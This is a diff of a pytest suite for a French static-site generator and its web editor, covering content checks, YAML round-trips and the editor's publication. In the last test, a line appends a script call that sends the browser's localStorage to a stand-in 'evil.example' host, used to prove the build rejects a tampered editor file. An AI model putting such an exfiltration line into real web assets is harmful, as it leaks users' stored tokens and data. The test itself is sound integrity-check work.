@@ -11,13 +11,14 @@ import json
 import re
 import shutil
 import subprocess
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 from pydantic import Field, ValidationError
 
-from conftest import ROOT, copy_project, run_ti
+from conftest import ROOT, copy_project, ti_inprocess
 from tisite import cms, schema
 from tisite.errors import ContentError
 from tisite.loader import load_site
@@ -32,7 +33,10 @@ def installed_editor() -> None:
         pytest.fail("éditeur web non installé dans .cache/editeur : lancez `make editeur`")
 
 
-needs_editor = pytest.mark.usefixtures("installed_editor")
+def needs_editor(test: Callable[..., None]) -> Callable[..., None]:
+    """The test needs the installed editor and Node.js (marker « editeur »: left out of
+    `make test-rapide`, which runs in a fresh clone)."""
+    return pytest.mark.editeur(pytest.mark.usefixtures("installed_editor")(test))
 
 
 def _walk_schema(name: str) -> list[tuple[str, dict[str, Any], bool]]:
@@ -271,7 +275,7 @@ def test_site_yml_says_what_the_editor_needs(
     with pytest.raises(Exception) as info:
         _site_with(project, edition)
     assert expected in str(info.value)
-    result = run_ti("check", cwd=project)
+    result = ti_inprocess("check", cwd=project)
     assert result.returncode == 1
     assert "site.yml" in result.stderr + result.stdout
     assert expected in result.stderr + result.stdout
@@ -358,6 +362,7 @@ def _jobs(project: Path, change: dict[str, Any] | None = None) -> list[dict[str,
     return jobs
 
 
+@pytest.mark.lent
 @needs_editor
 def test_every_file_saved_by_the_editor_passes_ti_check(project: Path, tmp_path: Path) -> None:
     """Each letter, action and single file of the example read and written back by the
@@ -381,11 +386,12 @@ def test_every_file_saved_by_the_editor_passes_ti_check(project: Path, tmp_path:
     assert "partenaires:\n  - Intercommunalités du territoire\n" in action.read_text("utf-8")
     after = load_site(project)
     assert after.territories == before.territories  # same content, read by the build
-    result = run_ti("check", cwd=project)
+    result = ti_inprocess("check", cwd=project)
     assert result.returncode == 0, result.stdout + result.stderr
     assert "Contenu valide" in result.stdout
 
 
+@pytest.mark.lent
 @needs_editor
 def test_cleared_fields_are_left_out_not_written_empty(project: Path, tmp_path: Path) -> None:
     """A field emptied in a form comes back as "" from Decap; the schema refuses an empty text,
@@ -395,9 +401,9 @@ def test_cleared_fields_are_left_out_not_written_empty(project: Path, tmp_path: 
     _round_trip(tmp_path, [{**job, "change": {"image_alt": "", "numero": 15}}])
     text = path.read_text(encoding="utf-8")
     assert "image_alt" not in text and "numero" not in text  # numero names the file only
-    assert run_ti("check", cwd=project).returncode == 0
+    assert ti_inprocess("check", cwd=project).returncode == 0
     path.write_text(text.replace("resume:", 'image_alt: ""\nresume:', 1), encoding="utf-8")
-    control = run_ti("check", cwd=project)
+    control = ti_inprocess("check", cwd=project)
     assert control.returncode == 1
     assert "image_alt" in control.stdout + control.stderr
 
@@ -410,6 +416,7 @@ def _with_editor(project: Path) -> None:
     (project / cms.EDITOR_DIR).symlink_to(EDITOR)
 
 
+@pytest.mark.lent
 @needs_editor
 def test_published_site_has_the_editor_out_of_search_sitemap_and_registry(
     tmp_path: Path,
@@ -417,7 +424,7 @@ def test_published_site_has_the_editor_out_of_search_sitemap_and_registry(
     project = copy_project(tmp_path / "projet")
     _with_editor(project)
     _site_with(project, EDITION["gitlab"])
-    result = run_ti("build", cwd=project)
+    result = ti_inprocess("build", cwd=project)
     assert result.returncode == 0, result.stdout + result.stderr
     assert "Éditeur web : /admin/ (gitlab, territoires/mon-territoire, demandes de fusion)" in (
         result.stdout + result.stderr
@@ -442,19 +449,21 @@ def test_published_site_has_the_editor_out_of_search_sitemap_and_registry(
             assert 'href="admin/' not in html.read_text(encoding="utf-8", errors="ignore")
 
 
+@pytest.mark.lent
 def test_published_site_without_edition_has_no_editor(tmp_path: Path) -> None:
     project = copy_project(tmp_path / "projet")
-    result = run_ti("build", cwd=project)
+    result = ti_inprocess("build", cwd=project)
     assert result.returncode == 0, result.stderr
     assert not (project / "site/admin").exists()
     assert "Éditeur web : non activé" in result.stdout + result.stderr
     assert "ajoutez à site.yml le bloc « edition »" in result.stdout + result.stderr
 
 
+@pytest.mark.lent
 def test_edition_without_the_installed_editor_fails_in_french(tmp_path: Path) -> None:
     project = copy_project(tmp_path / "projet")
     _site_with(project, EDITION["gitlab"])
-    result = run_ti("check", cwd=project)
+    result = ti_inprocess("check", cwd=project)
     assert result.returncode == 1
     assert "lancez `make editeur`" in result.stdout + result.stderr
     assert "Contenu valide" not in result.stdout
@@ -478,6 +487,7 @@ def _action_job(project: Path) -> dict[str, Any]:
     return next(j for j in _jobs(project) if j["path"] == str(project / ACTION))
 
 
+@pytest.mark.lent
 @needs_editor
 def test_texts_that_look_like_yaml_or_front_matter_survive(project: Path, tmp_path: Path) -> None:
     """A Markdown rule (« --- ») inside a text, a title ending in « --- », a byte order mark,
@@ -506,7 +516,7 @@ def test_texts_that_look_like_yaml_or_front_matter_survive(project: Path, tmp_pa
         a for t in before.territories for a in t.actions if a.id == "industrie-4-0-robotique"
     )
     assert action.data.avancement == old.data.avancement  # nothing moved to the body
-    assert run_ti("check", cwd=project).returncode == 0
+    assert ti_inprocess("check", cwd=project).returncode == 0
     # control: with the closing « --- » allowed anywhere on a line, the second save cuts the
     # front matter in the middle of « diagnostic », and the build doesn't see it
     loose = (cms.TEMPLATES / "ti-formats.js").read_text(encoding="utf-8")
@@ -528,6 +538,7 @@ def test_texts_that_look_like_yaml_or_front_matter_survive(project: Path, tmp_pa
         assert "industrie-4-0-robotique.md" in exc.report()
 
 
+@pytest.mark.lent
 @needs_editor
 def test_loose_values_are_shown_as_the_menus_know_them(project: Path, tmp_path: Path) -> None:
     """The build accepts « Attirer », « transition écologique », « non » and a SIREN written
@@ -544,7 +555,7 @@ def test_loose_values_are_shown_as_the_menus_know_them(project: Path, tmp_path: 
     head += "\nbrouillon: non\nepci: [245901160]\nnature_soutien: [Animation, ETUDE]"
     path.write_text(head + "\n---\n" + body, encoding="utf-8")
     assert (
-        run_ti(
+        ti_inprocess(
             "check",
             cwd=project,
         ).returncode
@@ -558,7 +569,7 @@ def test_loose_values_are_shown_as_the_menus_know_them(project: Path, tmp_path: 
     assert data["brouillon"] is False
     assert data["epci"] == ["245901160"]
     assert data["nature_soutien"] == ["animation", "étude"]
-    assert run_ti("check", cwd=project).returncode == 0
+    assert ti_inprocess("check", cwd=project).returncode == 0
 
 
 def test_github_sign_in_client_with_a_path(project: Path) -> None:
@@ -584,10 +595,11 @@ def test_a_shared_pages_address_is_flagged(project: Path) -> None:
         re.sub(r"^site_url: .*$", "site_url: https://org.gitlab.io/territoire/", text, flags=re.M),
         encoding="utf-8",
     )
-    result = run_ti("check", "--rapide", cwd=project)
+    result = ti_inprocess("check", "--rapide", cwd=project)
     assert "avertissement : le site est publié à https://org.gitlab.io/territoire/" in result.stdout
 
 
+@pytest.mark.lent
 @needs_editor
 def test_a_changed_editor_file_is_not_published(tmp_path: Path) -> None:
     """The editor's files are checked against their committed SHA-256 at every build: a
@@ -599,7 +611,7 @@ def test_a_changed_editor_file_is_not_published(tmp_path: Path) -> None:
     _site_with(project, EDITION["gitlab"])
     script = copy / cms.DECAP_FILE
     script.write_bytes(script.read_bytes() + b"\nfetch('https://evil.example/'+localStorage)")
-    result = run_ti("build", cwd=project)
+    result = ti_inprocess("build", cwd=project)
     assert result.returncode == 1
     assert "différent(s) de la version vérifiée : relancez `make editeur`" in result.stderr
     assert "Traceback" not in result.stderr
